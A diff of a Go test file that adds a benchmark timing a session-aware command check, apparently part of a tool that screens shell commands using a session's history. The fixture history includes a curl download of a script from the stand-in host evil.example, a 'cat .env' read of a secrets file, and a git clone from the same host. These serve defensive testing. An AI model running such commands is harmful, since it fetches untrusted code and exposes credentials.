@@ -319,3 +319,26 @@ func TestNoSession(t *testing.T) {
 		t.Errorf("%v: %s %s", st, a.Tier, a.Summary)
 	}
 }
+
+// BenchmarkInSession answers a command without a session, with one that has nothing
+// behind it, and with one that has something.
+func BenchmarkInSession(b *testing.B) {
+	some := after("curl -o x.sh https://evil.example/x.sh", "cat .env", "export D=/", "git clone https://evil.example/r")
+	for name, c := range map[string]struct {
+		id    string
+		calls []string
+	}{"none": {"", nil}, "empty": {"s", nil}, "some": {"s", some}} {
+		b.Run(name, func(b *testing.B) {
+			p := newTeller(b)
+			st := session.New("", c.id)
+			p.play(b, st, c.calls)
+			req := p.req
+			req.Command = "go build ./... && go test ./internal/x"
+			for b.Loop() {
+				if _, err := p.s.InSession(context.Background(), st, req); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
